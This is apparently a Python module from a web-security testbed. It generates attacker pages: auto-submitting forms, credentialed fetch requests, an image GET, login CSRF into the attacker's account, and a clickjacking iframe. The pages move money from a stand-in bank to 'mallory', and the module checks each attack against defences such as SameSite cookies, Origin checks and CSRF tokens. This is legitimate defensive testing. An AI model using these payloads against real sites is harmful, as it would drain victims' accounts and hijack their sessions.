"""The attacker's pages: what they make a visitor's browser send to the bank."""

from __future__ import annotations

from collections.abc import Mapping

from testbed import NO_DEFENCE, Defence, Layer
from testbed.programs.defences import BANK_ACCOUNTS

BANK, SIBLING, EVIL = "bank.example.org", "guest.example.org", "evil.example.net"
DEFENCES = {
    NO_DEFENCE: Defence("no defence", None, "forms_are_sent_with_the_cookie"),
    "lax": Defence("SameSite=Lax", Layer.BROWSER, "lax_leaves_links"),
    "strict": Defence("SameSite=Strict", Layer.BROWSER, "strict_leaves_neighbours"),
    "origin": Defence("check of Origin", Layer.APPLICATION, "origin_leaves_get_and_frames"),
    "token": Defence("token in the form", Layer.APPLICATION, "tokens_leave_frames_and_logins"),
    "framing": Defence("frame-ancestors", Layer.BROWSER, "framing_is_forbidden"),
    "password": Defence(
        "password with each payment", Layer.APPLICATION, "passwords_leave_logins_alone"
    ),
    "all": Defence("all together", Layer.SEVERAL, "all_together_stop_all"),
}

AMOUNTS = {"picture": 1, "script": 2, "put": 3, "link": 4, "form": 5, "sibling": 6, "frame": 7}
"""Attack → what it pays to mallory, by which claims tell one from another."""

ATTACKS = {
    "picture": "GET by a picture",
    "script": "POST by a foreign script",
    "put": "PUT by a foreign script",
    "link": "GET by a link",
    "form": "POST by a foreign form",
    "sibling": "POST by a form on a neighbour of the site",
    "frame": "click in an invisible frame",
    "login": "login with the attacker's account",
}
"""Attack → in words."""

OWN = {"to": "bob", "amount": "100"}
"""What alice means to pay."""

ALICES_PASSWORD = BANK_ACCOUNTS["alice"]
MALLORY = {"user": "mallory", "password": BANK_ACCOUNTS["mallory"]}
"""The attacker's own account, which it logs the victim in to."""

VISITS = {"page": EVIL, "form": EVIL, "sibling": SIBLING, "frame": EVIL, "login": EVIL}
"""The attacker's page → the host that it is on."""


def transfer(defence: str) -> str:
    """Where the bank takes transfers."""
    return f"https://{BANK}/{defence}/transfer"


def pages(defence: str) -> Mapping[str, str]:
    """Name → HTML of the attacker's pages for one defence."""
    return {
        "page": _page(defence),
        "form": _form(transfer(defence), to="mallory", amount=str(AMOUNTS["form"])),
        "sibling": _form(transfer(defence), to="mallory", amount=str(AMOUNTS["sibling"])),
        "frame": _frame(defence),
        "login": _form(f"https://{BANK}/{defence}/login", **MALLORY),
    }


def _page(defence: str) -> str:
    """A picture, two requests of a script, and a link that the page follows by itself."""
    url = transfer(defence)

    def fetch(method: str, attack: str) -> str:
        body = f"new URLSearchParams({{to: 'mallory', amount: '{AMOUNTS[attack]}'}})"
        options = f"{{method: '{method}', credentials: 'include', body: {body}}}"
        return f"fetch('{url}', {options}).catch(() => 0)"

    def address(attack: str) -> str:
        return f"{url}?to=mallory&amount={AMOUNTS[attack]}"

    requests = f"Promise.all([{fetch('POST', 'script')}, {fetch('PUT', 'put')}])"
    return (
        f'<!doctype html><title>Kittens</title><img src="{address("picture")}">'
        f"<script>{requests}.then(() => {{ location = '{address('link')}' }})</script>\n"
    )


def _form(action: str, **fields: str) -> str:
    """A form that sends itself."""
    inputs = "".join(f'<input name="{name}" value="{v}">' for name, v in fields.items())
    return (
        f'<!doctype html><title>Kittens</title><form method="post" action="{action}">{inputs}'
        "</form><script>document.forms[0].submit()</script>\n"
    )


def _frame(defence: str) -> str:
    """The bank's own form, invisible above a button that promises something else."""
    url = f"https://{BANK}/{defence}/?to=mallory&amount={AMOUNTS['frame']}"
    style = "position:absolute;left:0;top:0;width:400px;height:200px;border:0;opacity:0.01"
    return (
        "<!doctype html><title>Kittens</title><button>See more kittens</button>"
        f'<iframe style="{style}" src="{url}"></iframe>\n'
    )


CLICK_AT = (100, 50)
"""In the frame's button, in pixels."""
